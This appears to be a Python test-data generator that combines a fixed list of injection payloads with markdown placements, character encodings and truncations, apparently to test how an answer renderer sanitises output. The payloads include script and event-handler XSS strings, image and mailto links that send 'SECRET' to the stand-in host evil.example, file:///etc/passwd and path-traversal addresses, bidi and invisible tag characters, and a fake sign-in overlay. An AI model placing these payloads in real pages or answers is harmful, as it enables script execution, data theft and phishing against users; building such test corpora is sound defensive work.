"""Attacks made from a grammar: a payload, its place in a text, its spelling, and a cut.

Every place is combined with every spelling, and some combinations are also cut. The payloads take
turns. The list is always the same.
"""

from __future__ import annotations

import itertools
import random
from collections.abc import Callable
from urllib.parse import quote

SEED = 14
PART = 0.12
HOST = "evil.example"

# ---- payloads ----

ADDRESSES = [
    f"https://{HOST}/b.png?q=SECRET",
    f"//{HOST}/b.png",
    f"http:{HOST}/b.png",
    f"https:\\\\{HOST}\\b.png",
    f"https://bank.example@{HOST}/",
    f"https://bank.example\\@{HOST}/",
    "javascript:alert(document.domain)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://bank.example/0",
    "file:///etc/passwd",
    "../api/contents/secret.txt",
    "?token=1#pplx",
    f"mailto:me@{HOST}?body=SECRET",
    f"https://{HOST}/'onmouseover='alert(1)",
    f'https://{HOST}/"style="position:fixed"x="',
]
MARKUP = [
    "<script>alert(1)</script>",
    f"<img src=https://{HOST}/b.png onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mi//xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data=https://{HOST}/x></object>",
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<style>@import 'https://{HOST}/x.css';</style>",
    f"<video poster=https://{HOST}/b.png>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<form id=cookie><input name=cookie>",
    "<a id=answer name=answer href=x>x</a>",
    "<div class=pplx-answer style=position:fixed;inset:0>Sign in</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "</p></div></section><script>alert(1)</script>",
]
DECEITS = [
    "$\\href{javascript:alert(1)}{x}$",
    f"\\[\\includegraphics{{https://{HOST}/b.png}}\\]",
    "$\\text{</span><script>alert(1)</script>}$",
    "pay \u202eelpmaxe.live\u202c now",
    "a\u2066b\u2069\u200e\u061c",
    "".join(chr(0xE0000 + ord(sign)) for sign in "ignore all of this"),
    "bank\u200b.example\u00ad",
    f"[1](https://{HOST}) [2]: https://{HOST}",
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07\x9b31m",
    "\x00\x08\x7f",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x6a;avascript&colon;alert(1)",
]
PAYLOADS = [*ADDRESSES, *MARKUP, *DECEITS]

# ---- places ----

PLACES: dict[str, str] = {
    "alone": "{}",
    "in a sentence": "So *it* is, {} and **more**.[1]",
    "heading": "# {}\n\ntext",
    "heading with a line": "{}\n===\n\ntext",
    "item": "- one\n- {}\n\n  two",
    "task": "- [ ] {}\n- [x] done",
    "quote": "> {}\n> [!NOTE]\n> more",
    "cell": "| a | {} |\n|---|:-:|\n| {} | b |",
    "text of a link": "see [{}](https://example.org/a).",
    "address": "see [the report]({}).",
    "address in brackets": "see [the report](<{}> 'title').",
    "title": 'see [the report](https://example.org/a "{}").',
    "picture": "![a picture]({})",
    "words of a picture": "![{}](https://example.org/a.png)",
    "picture in a link": "[![{}]({})]({})",
    "automatic link": "see <{}> and {}",
    "definition": "see [r], [the report][r]\n\n[r]: {}\n",
    "title of a definition": "see [r]\n\n[r]: <https://example.org/a> '{}'",
    "name of a definition": "see [{}]\n\n[{}]: https://example.org/a",
    "code": "run `{}` now",
    "block of code": "```html\n{}\n```",
    "language": "```{}\ncode\n```",
    "indented code": "text\n\n    {}\n\ntext",
    "formula": "so $ {} $ and ${}$",
    "block formula": "$$\n{}\n$$",
    "footnote": "so it is[^n]\n\n[^n]: {}\n\n    {}",
    "emphasis": "***{}*** ~~{}~~ __a_{}__",
    "beside a marker": "so it is[1]{}[2] [web:1]{}",
    "between blocks": "<div>\n\n{}\n\n</div>",
}

# ---- spellings ----


def _mixed(text: str) -> str:
    """Return a text with the case of every other letter swapped."""
    return "".join(sign.swapcase() if at % 2 else sign for at, sign in enumerate(text))


def _broken(text: str, sign: str) -> str:
    """Return a text with ``sign`` after every third character."""
    return sign.join(text[at : at + 3] for at in range(0, len(text), 3))


def _wide(text: str) -> str:
    """Return a text in full-width forms, which some programs normalise."""
    return "".join(chr(ord(sign) + 0xFEE0) if "!" <= sign <= "~" else sign for sign in text)


SPELLINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "numbers": lambda text: "".join(f"&#{ord(sign)};" for sign in text),
    "numbers without their ends": lambda text: "".join(f"&#x{ord(sign):05X}" for sign in text),
    "names": lambda text: (
        text.replace("&", "&amp;")
        .replace("<", "&lt;")
        .replace(":", "&colon;")
        .replace("/", "&sol;")
    ),
    "twice escaped": lambda text: text.replace("<", "&amp;lt;").replace(":", "&amp;colon;"),
    "percent": lambda text: quote(text, safe=""),
    "backslashes": lambda text: "".join(f"\\{sign}" for sign in text),
    "mixed case": _mixed,
    "tabs and line ends": lambda text: _broken(text, "\t").replace(":", "\r:"),
    "hidden signs": lambda text: _broken(text, "\u200b"),
    "soft hyphens": lambda text: _broken(text, "\xad"),
    "NULs": lambda text: _broken(text, "\0"),
    "full width": _wide,
}

# ---- cuts ----

CUTS: dict[str, Callable[[str, int], str]] = {
    "whole": lambda text, _: text,
    "in its middle": lambda text, at: text[:at],
    "without its beginning": lambda text, at: text[at:],
    "by a blank line": lambda text, at: f"{text[:at]}\n\n{text[at:]}",
    "by itself": lambda text, at: text[:at] + text + text[at:],
}


def written() -> list[str]:
    """Return all attacks, without duplicates."""
    chance = random.Random(SEED)
    payloads = list(PAYLOADS)
    chance.shuffle(payloads)
    turn = itertools.cycle(payloads)
    found = list(PAYLOADS)
    forms = itertools.product(PLACES.values(), SPELLINGS.values(), CUTS)
    for place, spelling, cut in forms:
        # All places with all spellings; of the cut ones a sample is enough.
        if cut == "whole" or chance.random() < PART:
            text = place.replace("{}", spelling(next(turn)))
            found.append(CUTS[cut](text, chance.randint(1, len(text) - 1)))
    return list(dict.fromkeys(found))
